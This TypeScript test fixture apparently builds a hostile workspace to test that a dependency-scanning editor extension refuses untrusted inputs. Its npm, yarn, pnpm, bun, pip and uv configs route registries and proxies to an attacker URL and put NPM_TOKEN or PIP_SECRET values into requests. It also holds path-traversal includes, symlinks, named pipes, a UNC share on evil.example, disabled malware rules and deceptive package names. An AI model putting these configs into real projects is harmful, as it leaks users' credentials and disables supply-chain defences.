// A workspace as somebody would make it who wants more from the one who opens it than that it is read: one folder for each attack.
import { execFileSync } from 'node:child_process';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';

export interface HostileWorkspace {
  /** The folder that is opened. It lies in a repository. */
  readonly workspace: string;
  /** Of the user who opens it: their home folder. */
  readonly home: string;
  /** What none of it may have read, until it is trusted. */
  readonly outside: string;
}

/** What must never leave the machine: variables and files of the user. */
export const SECRETS = { NPM_TOKEN: 'npm-t0ken-of-the-user', PIP_SECRET: 'pip-s3cret-of-the-user' } as const;

/**
 * Writes it below an empty folder.
 * @param attacker base URL of a server that must hear of nothing
 */
export async function writeHostileWorkspace(root: string, attacker: string): Promise<HostileWorkspace> {
  const [outside, home, repository] = ['outside', 'home', 'repository'].map(name => path.join(root, name)) as [string, string, string];
  const workspace = path.join(repository, 'workspace');
  await writeAll(outside, {
    'requirements.txt': 'outside-requirement==1.0\nlitellm==1.82.8\n',
    'package.json': '{ "dependencies": { "outside-dependency": "1.0.0" } }',
    'package-lock.json': lockOf({ 'outside-locked': '1.0.0' }),
    '.npmrc': '@outside:registry=http://127.0.0.1:1/\n',
    'uv.toml': 'index-url = "http://127.0.0.1:1/simple"\n',
    'certificate.pem': '-----BEGIN CERTIFICATE-----\n',
    'env/pyvenv.cfg': 'home = /usr/bin\n',
    'env/bin/python': '',
    'env/lib/python3.12/site-packages/litellm-1.82.8.dist-info/METADATA': 'Name: litellm\nVersion: 1.82.8\n',
  });
  await writeAll(home, { '.npmrc': 'save-exact=true\n' });
  await writeAll(repository, {
    '.git/HEAD': 'ref: refs/heads/main\n',
    '.gitignore': 'workspace/\n',
    '.npmrc': '@above:registry=http://127.0.0.1:1/\n',
    'package-lock.json': lockOf({ 'above-locked': '1.0.0' }),
    'pnpm-workspace.yaml': 'packages:\n  - workspace/**\ncatalog:\n  above-catalog: 1.0.0\n',
  });
  await writeAll(workspace, filesOf({ attacker, outside }));
  for (const name of [...Object.keys(LINKS), ...PIPES]) await mkdir(path.dirname(path.join(workspace, name)), { recursive: true });
  for (const [name, target] of Object.entries(LINKS)) await symlink(target.replace('OUTSIDE', outside), path.join(workspace, name));
  if (process.platform !== 'win32')
    execFileSync(
      'mkfifo',
      PIPES.map(name => path.join(workspace, name)),
    );
  return { workspace, home, outside };
}

export const OUTSIDE = 'it lies outside the workspace, which is not trusted';

/** Why includes are not followed before the workspace is trusted, by file, in the order of their lines. */
export const REFUSED_INCLUDES: Readonly<Record<string, readonly string[]>> = {
  'include-up/requirements.txt': [OUTSIDE],
  'include-by-whole-path/requirements.txt': [OUTSIDE],
  'include-link/requirements.txt': [OUTSIDE, OUTSIDE],
  'include-by-url/requirements.txt': Array(6).fill('files are not fetched by URL'),
  'include-device/requirements.txt': [OUTSIDE, 'it is no regular file'],
};

function filesOf({ attacker, outside }: { readonly attacker: string; readonly outside: string }): Readonly<Record<string, string>> {
  const host = new URL(attacker).host;
  const file = `file://${outside}/requirements.txt`;
  return {
    'include-up/requirements.txt': '-r ../../../outside/requirements.txt\nrequests==2.32.3\n',
    'include-by-whole-path/requirements.txt': `-c ${outside}/requirements.txt\nrequests==2.32.3\n`,
    'include-link/requirements.txt': '-r link.txt\n-c folder/requirements.txt\nrequests==2.32.3\n',
    'include-by-url/requirements.txt': ['-r', '-c']
      .flatMap(option => [attacker, file, file.replace('//', '')].map(url => `${option} ${url}\n`))
      .join(''),
    'include-network/requirements.txt': '-r \\\\evil.example\\share\\requirements.txt\nrequests==2.32.3\n',
    'include-device/requirements.txt': '-r /dev/zero\n-r pipe.txt\nrequests==2.32.3\n',

    'lockfile-above/package.json': dependencies({ minimist: '^1.2.0' }),
    'lockfile-link/package.json': dependencies({ minimist: '^1.2.0' }),
    'catalog-above/package.json': dependencies({ 'above-catalog': 'catalog:' }),
    'members-outside/pnpm-workspace.yaml': 'packages:\n  - ../../../outside\n',
    'members-outside/package.json': '{ "workspaces": ["../../../outside", "/etc/**"] }',

    'npm-registry/.npmrc': `@npm-registry:registry=${attacker}/\${NPM_TOKEN}/\nregistry=${attacker}/\n//${host}/:_authToken=\${NPM_TOKEN}\ncafile=${outside}/certificate.pem\nproxy=${attacker}\nhttps-proxy=${attacker}\n`,
    'npm-registry/package.json': dependencies({ '@npm-registry/name': '1.0.0' }),
    'npm-scope/.npmrc': `@scoped:registry=${attacker}/\n//${host}/:_authToken=\${NPM_TOKEN}\n`,
    'npm-scope/package.json': dependencies({ '@scoped/name': '1.0.0', lodash: '4.17.21' }),
    'npm-proxy/.npmrc': `proxy=${attacker}\nhttps-proxy=${attacker}\nnoproxy=\nstrict-ssl=false\n`,
    'npm-proxy/package.json': dependencies({ express: '5.1.0' }),
    'npmrc-link/package.json': dependencies({ 'left-pad': '1.3.0' }),
    'yarn/.yarnrc.yml': `npmRegistryServer: "${attacker}"\nnpmAuthToken: "\${NPM_TOKEN}"\nnpmScopes:\n  yarn-scope:\n    npmRegistryServer: "${attacker}"\nunsafeHttpWhitelist: ["*"]\nhttpProxy: "${attacker}"\n`,
    'yarn/yarn.lock': '__metadata:\n  version: 8\n',
    'yarn/package.json': dependencies({ '@yarn-scope/name': '1.0.0' }),
    'pnpm/pnpm-workspace.yaml': `registries:\n  default: ${attacker}\n  "@pnpm-scope": ${attacker}\n`,
    'pnpm/package.json': dependencies({ '@pnpm-scope/name': '1.0.0' }),
    'bun/bunfig.toml': `[install]\nregistry = { url = "${attacker}", token = "$NPM_TOKEN" }\n[install.scopes]\n"@bun-scope" = { url = "${attacker}", token = "$NPM_TOKEN" }\n`,
    'bun/bun.lock': '{ "lockfileVersion": 1, "workspaces": {}, "packages": {} }',
    'bun/package.json': dependencies({ '@bun-scope/name': '1.0.0' }),

    'pip-index/requirements.txt': `--index-url ${attacker}/\${PIP_SECRET}/simple\n--trusted-host ${host}\npip-index-name==1.0\n`,
    'pip-further-index/requirements.txt': `--extra-index-url ${attacker}/simple\npip-further-name==1.0\n`,
    'pip-environment/.venv/pyvenv.cfg': '',
    'pip-environment/.venv/pip.conf': `[global]\nindex-url = ${attacker}/simple\nproxy = ${attacker}\ncert = ${outside}/certificate.pem\n`,
    'pip-environment/requirements.txt': 'pip-environment-name==1.0\n',
    'uv/uv.toml': `index-url = "${attacker}/simple"\nallow-insecure-host = ["${host}"]\n`,
    'uv/pyproject.toml': '[project]\nname = "x"\ndependencies = ["uv-name==1.0"]\n',
    'uv-index/pyproject.toml': `[project]\nname = "x"\ndependencies = ["uv-index-name==1.0"]\n[[tool.uv.index]]\nurl = "${attacker}/\${PIP_SECRET}/simple"\ndefault = true\n`,

    'uv-link/pyproject.toml': '[project]\nname = "x"\ndependencies = ["requests==2.32.3"]\n',
    'environment-link/requirements.txt': 'requests==2.32.3\n',

    'cooldown/.npmrc': 'min-release-age=0\nmin-release-age-exclude=*\n',
    'cooldown/package.json': dependencies({ brandnew: '1.0.1' }),

    '.depwarden.jsonc': JSON.stringify({
      rules: Object.fromEntries(
        ['malicious-release', 'malicious-package', 'malicious-installed', 'young-release', 'unknown-package'].map(rule => [rule, 'off']),
      ),
      cooldown: { days: 0 },
      ignore: [{ advisory: 'MAL-2025-46969', reason: 'nothing to see here' }],
      allow: ['npm:*', 'PyPI:*'],
      privateScopes: ['npm:called-private'],
    }),
    'package.json': dependencies({ chalk: '5.6.1', 'called-private': '1.0.0' }),
    '.vscode/settings.json': JSON.stringify({
      'depwarden.advisories.osvUrl': attacker,
      'depwarden.registries.npm': attacker,
      'depwarden.cache.folder': outside,
      'depwarden.rules': { 'malicious-release': 'off' },
      'depwarden.privateNames': [],
    }),

    'node_modules/chalk/package.json': '{ "name": "chalk", "version": "5.6.1" }',
    'installed/requirements.txt': 'litellm>=1.80\n',
    'installed/.venv/pyvenv.cfg': '',
    'installed/.venv/lib/python3.12/site-packages/litellm-1.82.8.dist-info/METADATA': 'Name: litellm\nVersion: 1.82.8\n',

    'deep/package.json': `${'{"dependencies":'.repeat(100_000)}1`,
    'deep/requirements.txt': `${'['.repeat(100_000)}\n`,
    'names/package.json': dependencies({
      'safe\u202egnp': '1.0.0',
      '\u001b[31mred': '1.0.0',
      '[x](command:workbench.action.quit)': '1.0.0',
    }),
  };
}

const LINKS: Readonly<Record<string, string>> = {
  'include-link/link.txt': '../../../outside/requirements.txt',
  'include-link/folder': 'OUTSIDE',
  'lockfile-link/package-lock.json': '../../../outside/package-lock.json',
  'manifest-link/package.json': '../../../outside/package.json',
  'npmrc-link/.npmrc': '../../../outside/.npmrc',
  'ignore-link/.gitignore': '../../../outside/requirements.txt',
  'environment-link/.venv': 'OUTSIDE/env',
  'environment-mark-link/env/pyvenv.cfg': 'OUTSIDE/env/pyvenv.cfg',
  'uv-link/uv.toml': 'OUTSIDE/uv.toml',
};

const PIPES = [
  'include-device/pipe.txt',
  'pipes/package.json',
  'pipes/package-lock.json',
  'pipes/.npmrc',
  'pipes/uv.toml',
  'pipes/requirements.txt',
];

function dependencies(names: Readonly<Record<string, string>>): string {
  return JSON.stringify({ dependencies: names });
}

function lockOf(names: Readonly<Record<string, string>>): string {
  const packages = Object.entries(names).map(([name, version]) => [`node_modules/${name}`, { version }]);
  return JSON.stringify({ lockfileVersion: 3, packages: { '': { dependencies: names }, ...Object.fromEntries(packages) } });
}

async function writeAll(folder: string, files: Readonly<Record<string, string>>): Promise<void> {
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(folder, name);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, text);
  }
}
